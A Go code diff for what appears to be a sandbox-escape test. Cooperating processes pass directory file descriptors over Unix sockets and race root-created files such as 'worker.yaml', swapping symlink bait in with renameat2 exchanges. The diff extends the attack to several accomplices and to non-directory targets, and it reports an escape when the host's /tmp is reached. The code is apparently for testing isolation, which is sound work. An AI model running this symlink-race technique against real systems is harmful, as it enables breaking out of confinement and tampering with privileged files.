@@ -11,15 +11,15 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// give sends its working directory to the accomplice and ends, to be started
-// again. From its second start on it looks whether its /tmp is what it shall not
-// reach. Its arguments are the accomplice's socket, its own artifacts, and the
-// file that a victim's directory has.
+// give sends directories of its own to accomplices, one to each, and ends, to be
+// started again. From its second start on it looks whether its /tmp is what it shall
+// not reach. Its arguments are its own artifacts, the file that a victim's directory
+// has, and for each accomplice a socket and a directory.
 func give(args []string) error {
-	if len(args) != 3 {
-		return fmt.Errorf("give SOCKET ARTIFACTS FILE, not %q", args)
+	if len(args) < 4 || len(args)%2 != 0 {
+		return fmt.Errorf("give ARTIFACTS FILE SOCKET DIRECTORY..., not %q", args)
 	}
-	socket, round, file := args[0], filepath.Join(args[1], "round"), filepath.Join("/tmp", args[2])
+	round, file := filepath.Join(args[0], "round"), filepath.Join("/tmp", args[1])
 	if _, err := os.Stat(round); err == nil {
 		if _, err := os.Lstat(file); err == nil {
 			escaped("/tmp is a directory of the host")
@@ -28,20 +28,10 @@ func give(args []string) error {
 		}
 		stay()
 	}
-	conn, err := net.DialUnix("unix", nil, &net.UnixAddr{Net: "unix", Name: socket})
-	if err != nil {
-		return err
-	}
-	dir, err := os.Open(".")
-	if err != nil {
-		return err
-	}
-	if _, _, err := conn.WriteMsgUnix([]byte("."), unix.UnixRights(int(dir.Fd())), nil); err != nil {
-		return err
-	}
-	// The accomplice is at work when it answers.
-	if _, err := conn.Read(make([]byte, 1)); err != nil {
-		return err
+	for to := args[2:]; len(to) > 0; to = to[2:] {
+		if err := send(to[0], to[1]); err != nil {
+			return err
+		}
 	}
 	if err := os.WriteFile(round, nil, 0o600); err != nil {
 		return err
@@ -49,7 +39,25 @@ func give(args []string) error {
 	return errors.New("starts again")
 }
 
-// swap gets a working directory of another worker of the same user, and puts
+// send sends a directory to the accomplice at a socket, and waits until that is at
+// work.
+func send(socket, path string) error {
+	conn, err := net.DialUnix("unix", nil, &net.UnixAddr{Net: "unix", Name: socket})
+	if err != nil {
+		return err
+	}
+	dir, err := os.Open(path)
+	if err != nil {
+		return err
+	}
+	if _, _, err := conn.WriteMsgUnix([]byte("."), unix.UnixRights(int(dir.Fd())), nil); err != nil {
+		return err
+	}
+	_, err = conn.Read(make([]byte, 1))
+	return err
+}
+
+// swap gets a directory of another worker of the same user, and puts
 // links in the place of everything in it, again and again. Its arguments are its
 // socket and the directory that the links lead to.
 func swap(args []string) error {
@@ -94,11 +102,11 @@ func swap(args []string) error {
 	}
 }
 
-// exchange puts the link bait in the place of a directory that root has made.
+// exchange puts the link bait in the place of something that root has made.
 func exchange(dir int, bait string) bool {
-	for _, name := range []string{"tmp", "heartbeats", "pids"} {
+	for _, name := range []string{"tmp", "heartbeats", "pids", ".worker.yaml.stormcell", "worker.yaml"} {
 		var st unix.Stat_t
-		if err := unix.Fstatat(dir, name, &st, unix.AT_SYMLINK_NOFOLLOW); err == nil && st.Mode&unix.S_IFMT == unix.S_IFDIR {
+		if err := unix.Fstatat(dir, name, &st, unix.AT_SYMLINK_NOFOLLOW); err == nil && st.Mode&unix.S_IFMT != unix.S_IFLNK {
 			return unix.Renameat2(dir, name, dir, bait, unix.RENAME_EXCHANGE) == nil
 		}
 	}
